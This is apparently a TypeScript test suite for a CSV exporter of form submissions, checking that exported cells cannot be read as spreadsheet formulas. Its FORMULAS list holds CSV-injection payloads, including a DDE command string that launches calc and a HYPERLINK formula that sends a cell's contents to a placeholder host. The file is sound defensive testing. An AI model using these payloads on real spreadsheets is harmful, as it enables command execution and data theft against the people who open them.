import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test } from 'node:test'

import fc from 'fast-check'

import { createCsv } from './csv-export.ts'
import type { ExportRow } from './export-row.ts'

const ROW: ExportRow = {
  id: 'a1',
  form: 'contact',
  folder: 'inbox',
  page: '/',
  language: 'en',
  receivedAt: '2026-01-01T00:00:00.000Z',
  fields: [],
  extra: [],
  consent: [],
  files: [],
}

const file = (name: string) => ({ id: '1', field: 'file', name, type: 'text/plain', size: 1 })

/** Cells of RFC 4180, read by the book. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (let at = 0; at < text.length;) {
    const quoted = /"((?:[^"]|"")*)"/y
    const plain = /[^",\r\n]*/y
    quoted.lastIndex = at
    plain.lastIndex = at
    const found = quoted.exec(text) ?? plain.exec(text)
    row.push((found?.[1] ?? found?.[0] ?? '').replaceAll('""', '"'))
    at += found?.[0].length ?? 0
    if (text.startsWith(',', at)) at += 1
    else {
      assert.ok(
        text.startsWith('\r\n', at),
        `a line ends at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`,
      )
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

function cells(names: readonly string[], ...rows: readonly ExportRow[]): string[][] {
  const csv = createCsv(names)
  const text = csv.header + rows.map((row) => csv.toLine(row)).join('')
  assert.equal(text[0], '\ufeff')
  return parseCsv(text.slice(1))
}

const FORMULAS = [
  '=1+1',
  '+49 30 123',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\rx',
  '\n=1',
  '  =1+1',
  '"=1+1',
  `'=1+1`,
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '\u0000=1+1',
  '\u0001=1',
  '\u007f=1',
  '\u3164=1',
  '\u0301=1',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫x',
  '−1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
]

const PLAIN = [
  'a=1',
  '1+1',
  'x@y.org',
  'a, b',
  'two\nlines',
  'say "hi"',
  ' blank ',
  '',
  'a;=1',
  '日本',
]

describe('a sheet of submissions', () => {
  test('has its fixed columns around one for each name', () => {
    const row: ExportRow = {
      ...ROW,
      fields: [
        ['name', ['Ann']],
        ['days', ['Mon', 'Tue, Wed']],
      ],
      extra: [['utm', 'x']],
      files: [file('a.txt'), file('b.txt')],
    }
    assert.deepEqual(cells(['name', 'days'], row), [
      ['id', 'form', 'received', 'folder', 'page', 'name', 'days', 'extra', 'files'],
      [
        'a1',
        'contact',
        ROW.receivedAt,
        'inbox',
        '/',
        'Ann',
        'Mon; Tue, Wed',
        'utm: x',
        'a.txt; b.txt',
      ],
    ])
  })

  test('names its columns apart, and has no formula among the names', () => {
    const [header] = cells(['id', 'files', '=x', 'id (field)'])
    assert.deepEqual(header?.slice(5, 9), [
      'id (field)',
      'files (field)',
      "'=x",
      'id (field) (field)',
    ])
  })

  test('has what came with no column of its own in the last but one', () => {
    const [, line] = cells(['name'], { ...ROW, fields: [['new', ['1', '2']]], extra: [['a', 'b']] })
    assert.deepEqual(line?.slice(5), ['', 'new: 1; new: 2; a: b', ''])
  })

  for (const text of FORMULAS)
    test(`has ${JSON.stringify(text)} as text`, () => {
      const row: ExportRow = {
        ...ROW,
        page: text,
        fields: [['a', [text, text]]],
        extra: [[text, text]],
        files: [file(text)],
      }
      const [, line = []] = cells(['a'], row)
      assert.deepEqual(line.slice(4), [
        `'${text}`,
        `'${text}; '${text}`,
        `'${text}: ${text}`,
        `'${text}`,
      ])
    })

  for (const text of PLAIN)
    test(`has ${JSON.stringify(text)} as it is`, () => {
      assert.deepEqual(cells(['a'], { ...ROW, fields: [['a', [text]]] })[1]?.[5], text)
    })

  test('can be read back, and no cell begins as a formula does, whatever was sent', () => {
    const unit = fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '"',
        "'",
        ',',
        ';',
        ' ',
        '＝',
        '\ufeff',
      ),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    )
    const texts = fc.string({ unit, maxLength: 12 })
    fc.assert(
      fc.property(texts, fc.array(texts, { minLength: 1, maxLength: 3 }), (name, values) => {
        const [header = [], line = []] = cells([name], { ...ROW, fields: [[name, values]] })
        assert.equal(line.length, header.length)
        const strip = (cell = '') => cell.replaceAll("'", '')
        assert.equal(strip(line[5]), strip(values.join('; ')))
        for (const cell of [...header, ...line])
          assert.doesNotMatch(
            cell,
            /^[\s"\p{Cc}\p{Cf}\p{M}\u3164]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n]/u,
          )
      }),
    )
  })

  const hasOffice = spawnSync('soffice', ['--version']).status === 0
  const options = hasOffice
    ? {}
    : { skip: 'soffice is not installed: apt-get install --no-install-recommends libreoffice-calc' }
  test('has no formula for LibreOffice', options, async () => {
    const folder = await mkdtemp(join(tmpdir(), 'leanto-csv-'))
    try {
      const csv = createCsv(['a', '=b'])
      const rows = [...FORMULAS, ...PLAIN].map((text) =>
        csv.toLine({
          ...ROW,
          page: text,
          fields: [
            ['a', [text]],
            ['=b', [text, text]],
          ],
          extra: [[text, text]],
          files: [file(text)],
        }),
      )
      // A planted formula shows that one would be seen.
      const planted = 'planted,,,,,=1+1,,,\r\n'
      for (const [name, text] of [
        ['safe', ''],
        ['planted', planted],
      ] as const) {
        await writeFile(join(folder, `${name}.csv`), csv.header + rows.join('') + text)
        // With a comma, quotation marks, UTF-8, and formulas evaluated as Excel does.
        const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,0,true'
        const args = [
          `-env:UserInstallation=file://${folder}/profile`,
          '--headless',
          `--infilter=${filter}`,
          '--convert-to',
          'fods',
          '--outdir',
          folder,
          join(folder, `${name}.csv`),
        ]
        const { status, stderr } = spawnSync('soffice', args, { encoding: 'utf8' })
        assert.equal(status, 0, stderr)
        const sheet = await readFile(join(folder, `${name}.fods`), 'utf8')
        assert.match(sheet, /cmd\|/)
        assert.equal(sheet.includes('table:formula'), text !== '', name)
      }
    } finally {
      await rm(folder, { recursive: true })
    }
  })
})
